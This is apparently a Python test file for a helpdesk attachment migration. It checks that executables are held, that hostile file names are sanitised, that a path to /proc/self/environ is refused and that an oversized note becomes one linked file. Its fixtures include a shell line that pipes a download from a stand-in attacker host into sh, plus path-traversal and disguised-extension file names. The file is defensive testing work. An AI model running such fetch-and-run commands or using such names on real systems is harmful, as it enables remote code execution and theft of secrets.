"""Files against the emulator: programs are held whatever their name, hostile names arrive made safe, refused
source paths are held with their reason, and a huge body arrives as one file with one comment pointing to it."""

from __future__ import annotations

from dataset import load_all, small_dataset, transform_all
from hdm.crosswalk.base import State
from hdm.model import Attachment, Message, MessageKind, Provenance, Visibility

MIG = "mig-files"
PE = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00" + bytes(48) + b"This program cannot be run"
ELF = b"\x7fELF\x02\x01\x01\x00" + bytes(56)
SCRIPT = b"#!/bin/sh\ncurl -s http://attacker.test/x | sh\n"


def _att(stage, i: int, name: str, data: bytes, **kw) -> Attachment:
    key, sha, size = stage.put_blob([data])
    return Attachment(Provenance("osticket", "attachment", str(i), "1.18"), ticket="ticket:1", message="message:101",
                      file_name=name, size=size, sha256=sha, blob=key, **kw)


def test_files_are_held_by_content_and_arrive_under_safe_names(make_dest, stage, crosswalk, sf_admin, sf_factory):
    data = small_dataset(stage, tickets=2)
    refused = Attachment(Provenance("osticket", "attachment", "8006", "1.18"), ticket="ticket:1",
                         message="message:101", file_name="environ.txt", size=100)
    refused.flag("attachment_path_refused", "storage backend '6': path '/proc/self/environ' resolves outside the "
                 "configured attachment folders; not read", field="blob", severity="error")
    data["attachment"] += [
        _att(stage, 8001, "report.txt", PE),
        _att(stage, 8002, "notes.txt", ELF),
        _att(stage, 8003, "readme.txt", SCRIPT),
        _att(stage, 8004, "../../a\\b\x07c\u202etxt.pdf ", b"%PDF-1.4 harmless"),
        _att(stage, 8005, "evil.exe. ", b"harmless bytes, blocked by name"),
        refused,
    ]
    huge = "<p>" + "a very long log line that goes on and on " * 30 + "</p>\n"
    data["message"].append(Message(Provenance("osticket", "thread_entry", "150", "1.18"), ticket="ticket:1",
                                   position=9, kind=MessageKind.AGENT, visibility=Visibility.INTERNAL,
                                   author_name="Ann Agent", created_at="2023-01-02T08:00:00Z",
                                   body_html=huge * 400))  # ~500 KB
    dest = make_dest(body_file_bytes=100_000)
    dest.prepare({})
    chunks = transform_all(dest, data)
    results = load_all(dest, chunks, crosswalk, MIG, "run-1")
    out = {o.source_key: o for r in results for o in r.outcomes}

    for i, what in ((8001, "Windows executable"), (8002, "ELF"), (8003, "script")):
        assert out[f"attachment:{i}"].status == "held" and what in out[f"attachment:{i}"].message
        assert crosswalk.get(MIG, f"attachment:{i}", "ContentVersion").state == State.HELD
    assert out["attachment:8005"].status == "held" and ".exe" in out["attachment:8005"].message
    assert out["attachment:8006"].status == "held" and "/proc/self/environ" in out["attachment:8006"].message
    flags = [f for r in results for f in r.flags]
    assert any(f["source_key"] == "attachment:8001" and f["code"] == "file_held" for f in flags)

    sf = sf_factory()
    versions = sf.query_all("SELECT Id, Title, PathOnClient, ContentDocumentId FROM ContentVersion")["records"]
    titles = {v["Title"] for v in versions}
    assert "_.._a_bctxt.pdf" in titles
    assert not any(set(t) & set("/\\\x07\u202e") or t.endswith((" ", ".")) for t in titles)
    assert not titles & {"report.txt", "notes.txt", "readme.txt", "evil.exe", "environ.txt"}  # nothing uploaded

    # the huge internal note: one comment pointing to the file, the file linked for internal users only
    assert out["message:150#body"].status == "created" and out["message:150#0"].status == "created"
    comments = [c for c in sf.query_all("SELECT CommentBody, IsPublished FROM CaseComment")["records"]
                if "ref message:150" in c["CommentBody"]]
    assert len(comments) == 1 and "message-150.html" in comments[0]["CommentBody"]
    assert comments[0]["IsPublished"] is False
    body_file = next(v for v in versions if v["Title"] == "message-150.html")
    links = sf.query_all(f"SELECT Visibility FROM ContentDocumentLink WHERE ContentDocumentId = "
                         f"'{body_file['ContentDocumentId']}'")["records"]
    assert links and {link["Visibility"] for link in links} <= {"InternalUsers"}
    for phase, phase_chunks in chunks.items():
        for rows in phase_chunks:
            assert dest.verify_chunk(phase, rows, crosswalk, MIG) == []
